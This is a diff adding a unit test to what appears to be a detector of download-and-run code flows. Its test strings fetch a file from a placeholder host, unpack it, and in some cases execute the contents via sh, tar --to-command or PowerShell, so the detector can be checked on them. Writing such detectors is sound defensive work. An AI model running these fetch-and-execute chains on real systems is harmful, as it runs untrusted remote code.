@@ -137,4 +137,28 @@ describe('commands', () => {
       assert.ok(done(`Buffer.from('${evil}', 'utf16le').toString('base64')`).includes('download-and-run'));
     });
   });
+
+  it('that unpack a file run nothing of it, until something of what was in it is run', () => {
+    const fetched = (then: string) =>
+      `fetch('https://files.invalid/tool').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/opt/x/tool.zip', Buffer.from(b)); ${then} });`;
+    for (const unpacking of [
+      `cp.execFileSync('unzip', ['-o', '/opt/x/tool.zip', '-d', '/opt/y']);`,
+      `cp.execSync('tar -xzf /opt/x/tool.zip -C /opt/y');`,
+      `cp.execFileSync('powershell.exe', ['-NoProfile', '-Command', "Expand-Archive -Force -LiteralPath '/opt/x/tool.zip' -DestinationPath '/opt/y'"]);`,
+    ]) {
+      assert.deepEqual(flowsOf(fetched(unpacking)).filter(isRunning), [], unpacking);
+      const flows = flowsOf(fetched(`${unpacking} cp.spawn('/opt/y/tool', []);`)).filter(isRunning);
+      assert.deepEqual(flows, ['downloaded>written-and-run'], unpacking);
+    }
+    for (const running of [
+      `cp.execSync('tar -xzf /opt/x/tool.zip -C /opt/y && sh /opt/y/setup.sh');`,
+      `cp.execSync('tar -xf /opt/x/tool.zip -C /opt/y --to-command=sh');`,
+      `cp.execFileSync('powershell.exe', ['-Command', "Expand-Archive '/opt/x/tool.zip' -DestinationPath '/opt/y'; /opt/y/run.ps1"]);`,
+    ])
+      assert.notDeepEqual(flowsOf(fetched(running)).filter(isRunning), [], running);
+  });
 });
+
+function isRunning(flow: string): boolean {
+  return flow.includes('run');
+}
